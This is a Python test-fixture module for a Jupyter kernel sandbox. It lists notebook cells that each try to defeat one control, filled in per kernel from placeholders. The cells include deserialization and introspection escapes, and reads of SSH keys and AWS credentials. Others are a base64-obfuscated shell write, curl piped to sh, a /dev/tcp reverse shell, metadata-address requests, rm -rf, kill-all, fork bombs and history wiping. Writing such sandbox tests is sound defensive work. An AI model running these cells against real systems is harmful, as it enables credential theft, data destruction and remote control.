"""For every rule with a control behind it, a cell that does what the rule is about.

Words in angle brackets are filled in for each kernel:

    <folder>      the notebook's folder, with some files        <home>    a user's home, with secrets
    <connection>  the kernel's connection file                  <secret>  what is secret there
    <port>        where a server of the host listens            <token>   a name for scratch files
    <pid>         a process of the host, leader of its group
    <everyone>    -1: all processes; for the plain kernel, that group: the host is to live on
    <first>       1: the first process; for the plain kernel, again the one above
"""

from __future__ import annotations

import base64
from typing import Final

READ: Final = "open('<connection>').read()"
SHOW: Final = f"print({READ})"
PICKLED: Final = f"""\
import pickle
class Pickled:
    def __reduce__(self):
        return eval, ({SHOW!r},)
"""
KERNELS_IN_FRAMES: Final = """\
for frame in frames:
    kernel = getattr(frame.f_locals.get("self"), "kernel", None)
    if kernel is not None:
        print(kernel.session.key)
"""
WRITE: Final = "echo changed > <folder>/data.txt"
HIDDEN_WRITE: Final = base64.b64encode(b"cd <folder>; echo changed > data.txt").decode()
PROXY: Final = "http://127.0.0.1:<port>"


def nested(code: str, depth: int) -> str:
    """Code in code in code."""
    for _ in range(depth):
        code = f"exec({code!r})"
    return code


SEPARATE_PROCESS: Final = {
    "python.import": "from pathlib import Path\nprint(Path('<connection>').read_text())",
    "python.dynamic_import": (
        "name = ''.join(reversed(input.__name__[:0] + 'bilhtap'))\n"
        "print(__import__(name).Path('<connection>').read_text())"
    ),
    "python.transitive_module": "import pathlib\nprint(pathlib.os.popen('cat <connection>').read())",
    "python.eval": f"eval({SHOW!r})",
    "python.exec": f"exec({SHOW!r})",
    "python.compile": f"eval(compile({SHOW!r}, 'code', 'eval'))",
    "python.shadowed_builtin": f"def breakpoint(text): print(text)\nbreakpoint({READ})",
    "python.indirect_exec": (
        "import pydoc\nprint(pydoc.locate('builtins.open')('<connection>').read())"
    ),
    "python.ipython_exec": (f"code = input.__name__[:0] + {SHOW!r}\nget_ipython().run_cell(code)"),
    "python.query_escape": (
        "import pandas, pathlib\nfile = pathlib.Path('<connection>')\n"
        "print(pandas.DataFrame({'a': [1]}).eval('@file.read_text()'))"
    ),
    "python.type_hints": (
        f"import typing\ndef hinted(value: {SHOW!r}): pass\ntyping.get_type_hints(hinted)"
    ),
    "python.unpickle": f"{PICKLED}pickle.loads(pickle.dumps(Pickled()))",
    "python.unpickle_literal": (
        "import pickle\n"
        "pickle.loads(b'cbuiltins\\neval\\n(Vprint(open(\"<connection>\").read())\\ntR.')"
    ),
    "python.load_model": (
        f"{PICKLED}import pandas\n"
        "with open('/tmp/<token>.pickle', 'wb') as file: pickle.dump(Pickled(), file)\n"
        "pandas.read_pickle('/tmp/<token>.pickle')"
    ),
    "python.yaml_load": (
        "import yaml\n"
        "made = yaml.unsafe_load('!!python/object/apply:builtins.open [<connection>]')\n"
        "print(made.read())"
    ),
    "python.subclasses": (
        "found = [c for c in object.__subclasses__() if c.__name__ == '_wrap_close'][0]\n"
        "print(found.__init__.__globals__['popen']('cat <connection>').read())"
    ),
    "python.class_walk": (
        "top = type('').__mro__[-1]\n"
        "found = [c for c in type.__subclasses__(top) if c.__name__ == '_wrap_close'][0]\n"
        "print(found.__init__.__globals__['popen']('cat <connection>').read())"
    ),
    "python.globals": (
        "import random\n"
        "print(random.seed.__func__.__globals__['__builtins__']['open']('<connection>').read())"
    ),
    "python.builtins_access": "print(print.__self__.open('<connection>').read())",
    "python.frames": (
        "import sys\nframes, frame = [], sys._getframe()\n"
        "while frame: frames, frame = [*frames, frame], frame.f_back\n" + KERNELS_IN_FRAMES
    ),
    "python.inspect_frames": (
        "import inspect\nframes = [info.frame for info in inspect.stack(0)]\n" + KERNELS_IN_FRAMES
    ),
    "python.code_objects": (
        f"import types\ntypes.FunctionType((lambda: {SHOW}).__code__, globals())()"
    ),
    "python.code_access": f"exec((lambda: {SHOW}).__code__)",
    "python.load_file": (
        "import importlib.util\nspec = importlib.util.find_spec('pathlib')\n"
        "module = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(module)\n"
        "print(module.Path('<connection>').read_text())"
    ),
    "python.loaders": "import json\nprint(json.__loader__.get_data('<connection>').decode())",
    "python.sys_modules": (
        "import sys\nprint(sys.modules['ipykernel.kernelapp'].IPKernelApp.instance().session.key)"
    ),
    "python.gc": (
        "import gc\n"
        "print([o.key for o in gc.get_objects() if type(o).__name__.endswith('Session')])"
    ),
    "python.hooks": (
        "import sys\ndef hook(*_):\n    sys.setprofile(None)\n"
        f"    {SHOW}\nsys.setprofile(hook)\nlen('')"
    ),
    "python.ipython_hooks": (
        "events = get_ipython().events\ndef hook(*_):\n    events.unregister('post_run_cell', hook)\n"
        f"    {SHOW}\nevents.register('post_run_cell', hook)"
    ),
    "python.ipython_internals": "print(get_ipython().kernel.session.key)",
    "python.format_walk": (
        "print('{0.__self__.kernel.session.key}'.format(get_ipython().run_cell))"
    ),
    "python.dynamic_attribute": (
        "import os\nname = input.__name__[:0] + 'popen'\n"
        "print(getattr(os, name)('cat <connection>').read())"
    ),
    "python.unknown_syntax": SHOW,  # the check knows all syntax of the Python it runs on
    "magic": f"%time {SHOW}",
    "magic.alias": "%alias tell cat <connection>\n%tell",
    "magic.autocall": f"%autocall 2\nget_ipython().run_cell({f'exec {SHOW!r}'!r})",
    "magic.run_file": (
        f"with open('/tmp/<token>.py', 'w') as file: file.write({SHOW!r})\n%run /tmp/<token>.py"
    ),
    "magic.load_ext": (
        "import sys\nsys.path.append('/tmp')\n"
        "with open('/tmp/<token>_ext.py', 'w') as file:\n"
        f"    file.write('def load_ipython_extension(shell): ' + {SHOW!r})\n"
        "%load_ext <token>_ext"
    ),
    "magic.config": f"%config ZMQInteractiveShell.banner2 = {READ}\nprint(get_ipython().banner2)",
    "magic.connection": "%connect_info",
    "cell.unreadable": (
        # A magic, and a line that IPython's tokenizer would take long for: refused by its length, so
        # however fast the machine. Caught: IPython takes seconds to show an error in such a cell.
        f"try: {SHOW}\nexcept OSError: numbers = [{'1,' * 60_000}]\n%precision"
    ),
    "cell.too_deep": nested(SHOW, 10),
}

HOST_FILES: Final = {
    "python.write_file": "with open('<folder>/data.txt', 'w') as file: file.write('changed')",
    "python.delete": "import os\nos.remove('<folder>/data.txt')",
    "python.delete_tree": "import shutil\nshutil.rmtree('<folder>/tree')",
    "python.permissions": "import os\nos.chmod('<folder>/data.txt', 0o777)",
    "python.sensitive_path": "print(open('<home>/.ssh/id_rsa').read())",
    "python.system_path": "import os\nif os.path.isdir('/var/lib'): print('<secret>')",
    "python.path_traversal": "print(open('../../home/notes.txt').read())",
    # The library is not needed: it speaks to the display's socket, and so can anybody.
    "python.surveillance": (
        "import socket\ntry:\n    import pyautogui\n    pyautogui.screenshot()\n"
        "except Exception:\n    socket.socket(socket.AF_UNIX).connect('<home>/X0')"
    ),
    "shell.command": f"!{WRITE}",
    "shell.unparseable": f"!{WRITE}; echo 'no end",
    "shell.too_deep": "!" + "eval " * 20 + f"'{WRITE}'",
    "shell.dynamic_command": (
        "%%bash\necho tee > /tmp/<token>\nread program < /tmp/<token>\n"
        "echo changed | $program <folder>/data.txt"
    ),
    "shell.interpolated": "place = '<folder>/data.txt'\n!echo changed > {place}",
    "shell.obfuscated": f"!echo {HIDDEN_WRITE} | base64 -d | sh",
    "shell.hidden_command": ("!git -c alias.ordinary='!echo changed > <folder>/data.txt' ordinary"),
    "shell.other_language": (
        """!perl -e 'open(F, ">", "<folder>/data.txt") or die; print F "changed"'"""
    ),
    "shell.delete_system": "!rm -rf --no-preserve-root <folder>/tree",
    "shell.delete_recursive": "!rm -rf <folder>/tree",
    "shell.device": "!/sbin/mkswap <folder>/disk",
    "shell.system_write": "!echo changed >> <home>/.bashrc",
    "shell.library_write": "!echo changed > <folder>/site-packages/module.py",
    "shell.sensitive_path": "!cat <home>/.aws/credentials",
    "shell.system_path": "!ls -d /var/lib && echo <secret>",
    "shell.environment_hook": (
        "%%bash\necho 'echo changed > <folder>/data.txt' > /tmp/<token>\n"
        "export BASH_ENV=/tmp/<token>\nbash -c true"
    ),
    "shell.permissions": "!chmod -R 777 <folder>/tree",
    "shell.cover_tracks": "!rm <home>/.bash_history",
    "magic.shell": f"%%bash\n{WRITE}",
    "magic.other_language": (
        '%%perl\nopen(F, ">", "<folder>/data.txt") or die;\nprint F "changed";'
    ),
    "magic.write_file": "%%writefile <folder>/data.txt\nchanged",
    "magic.sensitive_path": "%%writefile <home>/.bashrc\nchanged",
    "magic.directory": "%cd <home>\nprint(open('notes.txt').read())\n%cd <folder>",
    "magic.environment_hook": (
        "with open('/tmp/<token>', 'w') as file: file.write('echo changed > <folder>/data.txt')\n"
        "%env BASH_ENV=/tmp/<token>\n!bash -c true"
    ),
}

NETWORK: Final = {
    "python.network": "import socket\nsocket.create_connection(('127.0.0.1', <port>), 5)",
    "python.local_address": (
        f"import urllib.request\nurllib.request.urlopen('{PROXY}/private', timeout=5)"
    ),
    # The server stands where the way to the cloud's address would begin.
    "python.metadata_address": (
        "import urllib.request\n"
        f"proxy = urllib.request.ProxyHandler({{'http': '{PROXY}'}})\n"
        "urllib.request.build_opener(proxy).open('http://169.254.169.254/latest', timeout=5)"
    ),
    "shell.download": f"!curl -s -m 5 {PROXY}/data",
    "shell.upload": f"!echo data > /tmp/<token>; curl -s -m 5 -T /tmp/<token> {PROXY}/",
    "shell.pipe_to_shell": f"!curl -s -m 5 {PROXY}/script | sh",
    "shell.run_download": (f"!curl -s -m 5 -o /tmp/<token>.sh {PROXY}/script; sh /tmp/<token>.sh"),
    "shell.reverse_shell": "%%bash\nsh < /dev/tcp/127.0.0.1/<port>",
    "shell.network": "!ssh -p <port> -o BatchMode=yes -o ConnectTimeout=5 nobody@127.0.0.1 true",
    "shell.metadata_address": f"!curl -s -m 5 --proxy {PROXY} http://169.254.169.254/latest",
    "shell.install": (
        f"!python -m pip install --retries 0 --timeout 5 --index-url {PROXY} --target /tmp/<token> x"
    ),
    "magic.install": (
        f"%pip install --retries 0 --timeout 5 --index-url {PROXY} --target /tmp/<token> x"
    ),
    "magic.load_code": f"%load {PROXY}/code.py",
    "magic.pastebin": (
        "import urllib.request\nurllib.request.install_opener(None)  # one that knows no proxy\n"
        f"%env https_proxy={PROXY}\n%pastebin 1"
    ),
}

PROCESSES: Final = {
    "python.process": "import subprocess\nsubprocess.run(['kill', '-9', '<pid>'])",
    "python.shell_true": "import subprocess\nsubprocess.run('kill -9 <pid>', shell=True)",
    "python.dynamic_shell": (
        "import os\ncommand = input.__name__[:0] + 'kill -9 <pid>'\nos.system(command)"
    ),
    "python.fork": (
        "import os\nif os.fork() == 0:\n    try: os.kill(<pid>, 9)\n    finally: os._exit(0)"
    ),
    "python.kill": "import os\nos.kill(<pid>, 9)",
    "python.kill_all": "import os\nos.kill(<everyone>, 9)",
    "python.deferred": (
        "import os, threading\nthreading.Timer(0.1, lambda: os.kill(<pid>, 9)).start()"
    ),
    # The witness has the secret among its arguments.
    "python.host_inspection": (
        "import psutil\nprint([process.info for process in psutil.process_iter(['cmdline'])])"
    ),
    "shell.kill": "!kill -9 <first>",
    "shell.background": (
        "%%bash\nnohup sh -c 'sleep 0.1; kill -9 <pid>' > /dev/null 2>&1 < /dev/null &"
    ),
    "magic.background": "%%bash --bg\nsleep 0.1; kill -9 <pid>",
}

NO_PRIVILEGES: Final = {
    "shell.sudo": "!su root -c 'echo <secret>'",
    "shell.privilege": "!unshare --mount echo <secret>",
    "shell.users": "!/usr/sbin/useradd --prefix <folder>/machine stranger",
    "shell.system_control": "!dmesg > /dev/null && echo <secret>",
}

# Processes by dozens at one time, and much output. The bombs go out by themselves.
LIMITS: Final = {
    "python.fork_bomb": (
        "import os, time\nchildren = []\ntry:\n    while len(children) < 60:\n"
        "        children.append(os.fork())\n        if children[-1] == 0:\n"
        "            time.sleep(1)\n            os._exit(0)\n"
        "    time.sleep(0.5)\n    print('<secret>')\n"
        "finally:\n    for child in children: os.waitpid(child, 0)"
    ),
    "shell.fork_bomb": (
        "%%bash\nbomb() { if [ $1 -gt 0 ]; then bomb $(($1 - 1)) & bomb $(($1 - 1)) & wait; "
        "else sleep 1; fi; }\nbefore=(/proc/[0-9]*)\nbomb 5 > /dev/null 2>&1 &\n"
        # Those that are there at two looks were there together: one look takes its time, and some
        # that it finds have ended before others begin.
        "while [ $SECONDS -lt 2 ]; do\n  now=(/proc/[0-9]*)\n  both=0\n"
        '  for one in ${now[@]}; do case " ${last[*]} " in *" $one "*) both=$((both + 1));; esac; done\n'
        "  if [ $both -gt $((${#before[@]} + 50)) ]; then echo <secret>; break; fi\n"
        "  last=(${now[@]})\ndone"
    ),
    "cell.too_large": f"# {'-' * (1 << 20)}\nfor _ in range(100): print('-' * 4096)\nprint('<secret>')",
}

SECCOMP: Final = {
    # vmsplice: gives pages of memory to a pipe.
    "python.native": (
        "import ctypes, os\nreader, writer = os.pipe()\n"
        "text = ctypes.create_string_buffer(b'<secret>')\n"
        "pages = (ctypes.c_size_t * 2)(ctypes.addressof(text), len(text.value))\n"
        "if ctypes.CDLL(None).vmsplice(writer, pages, 1, 0) > 0: print(os.read(reader, 100))"
    ),
}

ENVIRONMENT: Final = {
    "python.environment": "import os\nprint(dict(os.environ))",
    "shell.environment": "!env",
    "magic.environment": "variables = %env\nprint(variables)",
}

EPHEMERAL: Final = {
    "shell.git_config": "!git config --file /tmp/<token>-git user.name changed",
    "magic.write_script": "%%writefile /dev/shm/<token>.sh\necho",
    "magic.history": "%history -f /tmp/<token>-history",
}

# By the control that holds.
BYPASSES: Final = {
    "network": NETWORK,
    "host_files": HOST_FILES,
    "ephemeral": EPHEMERAL,
    "processes": PROCESSES,
    "separate_process": SEPARATE_PROCESS,
    "seccomp": SECCOMP,
    "no_privileges": NO_PRIVILEGES,
    "limits": LIMITS,
    "environment": ENVIRONMENT,
}


def filled_in(code: str, words: dict[str, str]) -> str:
    """The cell for one kernel."""
    for word, value in words.items():
        assert value  # `rm <nothing>/…` is not what anybody wants
        code = code.replace(f"<{word}>", value)
    return code
